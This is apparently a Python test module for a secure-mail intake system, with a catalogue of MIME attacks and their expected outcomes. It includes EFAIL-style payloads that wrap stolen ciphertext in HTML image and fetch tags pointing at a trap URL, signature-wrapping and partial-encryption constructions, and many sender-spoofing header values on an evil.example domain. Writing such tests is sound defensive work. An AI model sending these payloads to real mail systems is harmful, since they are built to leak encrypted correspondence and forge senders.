"""Attacks that are made of MIME alone: wrapping, hiding, half-encrypting, and lying about the sender."""

import base64

from vault.intake.opened import Outcome
from vault.testing import mails
from vault.testing.mailattacks import (
    BAIT,
    MALLORY,
    VICTIM,
    Prey,
    attack,
    entity,
    from_mallory,
    html,
    multipart,
    sealed,
    signed_entity,
    words,
)

_OPENED, _PLAIN, _REFUSED, _SHUT = Outcome.OPENED, Outcome.PLAIN, Outcome.REFUSED, Outcome.UNDECRYPTABLE
_SENDERS = {
    "display_name": f'"{VICTIM}" <{MALLORY}>',
    "bare_display_name": f"{VICTIM} <{MALLORY}>",
    "encoded_word": f"=?utf-8?Q?Aino_=3Caino=40example.fi=3E?= <{MALLORY}>",
    "encoded_address": "=?utf-8?Q?aino=40example.fi=3E?=@evil.example",
    "encoded_nul": f"=?utf-8?B?{base64.b64encode(VICTIM.encode() + bytes(1)).decode()}?= <{MALLORY}>",
    "comment": f"{MALLORY} ({VICTIM})",
    "comment_inside": f"Aino (<{VICTIM}>) <{MALLORY}>",
    "comment_in_address": f"aino(x)@example.fi <{MALLORY}>",
    "group": f"Potilaat: {VICTIM}, {MALLORY};",
    "list": f"{MALLORY}, {VICTIM}",
    "two_angles": f"<{VICTIM}> <{MALLORY}>",
    "route": f"<@evil.example:{VICTIM}>",
    "quoted_local": f'"{VICTIM}"@evil.example',
    "nul": f"{VICTIM}\0@evil.example",
    "bare_cr": f"{MALLORY}\rFrom: {VICTIM}",
    "vertical_tab": f"{MALLORY}\vFrom: {VICTIM}",
    "folded": f"{MALLORY}\r\n <{VICTIM}>",
    "homoglyph": "\u0430ino@example.fi",
    "percent": "aino%example.fi@evil.example",
    "bang": f"evil.example!{VICTIM}, x",
    "unclosed": f"<{VICTIM}",
    "trailing_dot": f"{VICTIM}.",
    "override": f"\u202e{VICTIM[::-1]}\u202c <{MALLORY}>",
}


@attack("direct exfiltration", _OPENED, reason="outside_ignored")
def html_around_pgp_mime(prey: Prey) -> bytes:
    """EFAIL: an image's address is opened before the ciphertext and closed behind it."""
    opening, closing = html(f'{BAIT} <img src="{prey.trap}/'), html(f'"> {BAIT}')
    return from_mallory(multipart("mixed", opening, sealed(prey.stolen()), closing))


@attack("direct exfiltration", _OPENED, reason="outside_ignored")
def html_around_smime(prey: Prey) -> bytes:
    """EFAIL: the same around S/MIME."""
    mail = mails.smime_mail(prey.letter, prey.clinic.certificate, prey.aino)
    inside = mail[mail.index(b"Content-Disposition") :]
    opening, closing = html(f'{BAIT} <img src="{prey.trap}/'), html(f'"> {BAIT}')
    return from_mallory(multipart("mixed", opening, inside, closing))


@attack("direct exfiltration", _REFUSED, reason="mail_encrypted_html")
def armour_inside_html(prey: Prey) -> bytes:
    """EFAIL: armour that stands inside of HTML itself."""
    return from_mallory(html(f'<img src="{prey.trap}/\n{prey.stolen().decode()}\n">'))


@attack("direct exfiltration", _OPENED)
def html_that_fetches(prey: Prey) -> bytes:
    """Everything in HTML that fetches, encrypted to the clinic in the proper way."""
    tags = [
        *(
            "img src",
            "script src",
            "iframe src",
            "link rel=stylesheet href",
            "link rel=prefetch href",
            "body background",
        ),
        *("object data", "embed src", "video poster", "audio src", "input type=image src", "base href", "form action"),
        *("meta http-equiv=refresh content=0;url", "svg><image xlink:href", "track src", "source srcset", "a ping"),
    ]
    body = "".join(f"<{tag}={prey.trap}/{number}>" for number, tag in enumerate(tags))
    style = f"<style>@import url({prey.trap}/s); p {{background: url({prey.trap}/t)}}</style>"
    xml = f'<!DOCTYPE html [<!ENTITY x SYSTEM "{prey.trap}/x">]>&x;'
    page = html(f"{xml}{style}<p style='background:url({prey.trap}/u)'>hei</p>{body}")
    return from_mallory(sealed(mails.encrypt(prey.world.mallory, page, prey.world.key, sign=True)))


@attack("direct exfiltration", _PLAIN)
def body_elsewhere(prey: Prey) -> bytes:
    """Name a body that stands on a server (RFC 2046 section 5.2.3, RFC 2017), and a Content-Location."""
    kind = f'message/external-body; access-type=URL; URL="{prey.trap}/body"'
    page = entity("text/html", "<p>hei</p>", f"Content-Location: {prey.trap}/", f"Content-Base: {prey.trap}/")
    return from_mallory(multipart("related", page, entity(kind, "Content-Type: text/plain\r\n\r\n")))


@attack("covert content", _OPENED, reason="outside_ignored")
def ciphertext_to_be_quoted(prey: Prey) -> bytes:
    """Put a stolen ciphertext below a harmless text: whoever answers quotes what it held."""
    mail = multipart("related", html(f"<p>{BAIT}?</p><p>Terveisin, M</p>"), sealed(prey.stolen()))
    return from_mallory(mail, f"M <{MALLORY}>")


@attack("covert content", _PLAIN)
def ciphertext_in_a_forwarded_mail(prey: Prey) -> bytes:
    """Attach the stolen mail as a message."""
    forwarded = entity("message/rfc822", from_mallory(sealed(prey.stolen())))
    return from_mallory(multipart("mixed", words(), forwarded), MALLORY)


@attack("covert content", _OPENED)
def ciphertext_inside_ciphertext(prey: Prey) -> bytes:
    """Mallory's own encrypted mail holds the stolen one as a part."""
    both = multipart("mixed", words("Hei, kysyn tietojani."), sealed(prey.stolen()))
    return from_mallory(sealed(mails.encrypt(prey.world.mallory, both, prey.world.key, sign=True)), MALLORY)


@attack("covert content", _OPENED)
def armour_inside_ciphertext(prey: Prey) -> bytes:
    """Mallory's own encrypted text holds the stolen armour."""
    text = words("Hei, kysyn tietojani.\n" + prey.stolen().decode())
    return from_mallory(sealed(mails.encrypt(prey.world.mallory, text, prey.world.key, sign=True)), MALLORY)


@attack("signature wrapping in MIME", _PLAIN)
def words_around_a_signed_part(prey: Prey) -> bytes:
    """Put an old signed letter between Mallory's words: the signature does not cover all that is shown."""
    signed = signed_entity(words("Hei, pyydän tietoni."), prey.world.aino)
    return from_mallory(multipart("mixed", words(), signed, words()))


@attack("signature wrapping in MIME", _PLAIN)
def a_signed_part_that_is_not_shown(prey: Prey) -> bytes:
    """Make the signed letter the alternative that nobody sees."""
    signed = signed_entity(html("<p>Hei, pyydän tietoni.</p>"), prey.world.aino)
    return from_mallory(multipart("alternative", words(), signed))


@attack("signature wrapping in MIME", _REFUSED, reason="mail_signature_malformed")
def a_third_part_beside_the_signature(prey: Prey) -> bytes:
    """RFC 1847 knows two parts."""
    content = words("Hei, pyydän tietoni.")
    signature = entity("application/pgp-signature", prey.world.aino.gpg("--armor", "--detach-sign", data=content))
    return from_mallory(multipart("signed", content, signature, words()))


@attack("signature wrapping in MIME", _PLAIN)
def an_old_signature_under_new_words(prey: Prey) -> bytes:
    """Put Aino's signature under Mallory's words."""
    return from_mallory(signed_entity(words("Hei."), prey.world.aino).replace(b"Hei.", BAIT.encode()))


@attack("signature wrapping in MIME", _PLAIN)
def words_in_preamble_and_epilogue(prey: Prey) -> bytes:
    """Write outside the boundaries: what stands there is no part and is not shown."""
    signed = signed_entity(words("Hei, pyydän tietoni."), prey.world.aino)
    head, _, body = signed.partition(b"\r\n\r\n")
    return from_mallory(head + f"\r\n\r\n{BAIT}\r\n".encode() + body + f"\r\n{BAIT}\r\n".encode())


@attack("signature wrapping in MIME", _PLAIN)
def two_content_types(prey: Prey) -> bytes:
    """One program reads the first Content-Type, the next one the second."""
    signed = signed_entity(words("Hei, pyydän tietoni."), prey.world.aino)
    return from_mallory(multipart("mixed", words(), signed), f"Aino <{VICTIM}>", "X-First: 1").replace(
        b"X-First: 1", b"Content-Type: text/plain"
    )


@attack("partial encryption", _OPENED, reason="outside_ignored")
def words_around_armour(prey: Prey) -> bytes:
    """Mallory's words, a stolen armour, Mallory's words."""
    armour = mails.encrypt(prey.world.aino, prey.letter.text.encode(), prey.world.key, sign=True).decode()
    return from_mallory(words(f"{BAIT}\n{armour}\n{BAIT}"))


@attack("partial encryption", _OPENED, reason="outside_ignored")
def an_encrypted_alternative(prey: Prey) -> bytes:
    """One alternative is encrypted, the other one is Mallory's."""
    return from_mallory(multipart("alternative", words(), sealed(prey.stolen()), html(BAIT)))


@attack("partial encryption", _REFUSED, reason="mail_several_encrypted_parts")
def two_encrypted_parts(prey: Prey) -> bytes:
    """Put a stolen ciphertext beside one that Mallory made."""
    made = mails.encrypt(prey.world.mallory, words(), prey.world.key, sign=True)
    return from_mallory(multipart("mixed", sealed(made), sealed(prey.stolen())))


@attack("partial encryption", _REFUSED, reason="mail_several_encrypted_parts")
def two_kinds_of_encryption(prey: Prey) -> bytes:
    """S/MIME beside OpenPGP."""
    mail = mails.smime_mail(prey.letter, prey.clinic.certificate)
    return from_mallory(
        multipart("mixed", mail[mail.index(b"Content-Disposition") :], words(prey.stolen().decode())), MALLORY
    )


@attack("partial encryption", _REFUSED, reason="mail_encryption_malformed")
def a_third_encrypted_part(prey: Prey) -> bytes:
    """RFC 3156 knows a version and a message."""
    parts = (
        entity("application/pgp-encrypted", "Version: 1"),
        entity("application/octet-stream", prey.stolen()),
        words(),
    )
    return from_mallory(multipart("encrypted", *parts))


def _enter_senders() -> None:
    for name, sender in _SENDERS.items():

        def make(prey: Prey, sender: str = sender) -> bytes:
            return from_mallory(signed_entity(words(), prey.world.mallory), sender)

        make.__name__ = f"from_{name}"
        attack("sender", _PLAIN, _REFUSED)(make)


@attack("sender", _PLAIN)
def two_from_headers(prey: Prey) -> bytes:
    """One program shows the first, the next one the second."""
    return from_mallory(signed_entity(words(), prey.world.mallory), MALLORY, f"From: {VICTIM}")


@attack("sender", _PLAIN)
def other_headers_that_name_a_sender(prey: Prey) -> bytes:
    """Sender, Reply-To, Resent-From and the like are not the sender."""
    fields = [
        f"{name}: {VICTIM}" for name in ("Sender", "Reply-To", "Resent-From", "X-From", "Return-Path", "Errors-To")
    ]
    return from_mallory(signed_entity(words(), prey.world.mallory), MALLORY, *fields)


@attack("sender", _OPENED)
def a_from_header_inside_the_encryption(prey: Prey) -> bytes:
    """Protect a From that says otherwise than the one that came."""
    inside = entity('text/plain; protected-headers="v1"', "Hei", f"From: {VICTIM}", "Subject: x")
    return from_mallory(sealed(mails.encrypt(prey.world.mallory, inside, prey.world.key, sign=True)), MALLORY)


@attack("sender", _PLAIN)
def a_sender_in_the_mailbox_line(prey: Prey) -> bytes:
    """Name Aino in the line that mbox puts before a mail: it is no header."""
    return f"From {VICTIM} Sat Nov 21 10:00:00 2026\r\n".encode() + from_mallory(
        signed_entity(words(), prey.world.mallory), MALLORY
    )


_enter_senders()
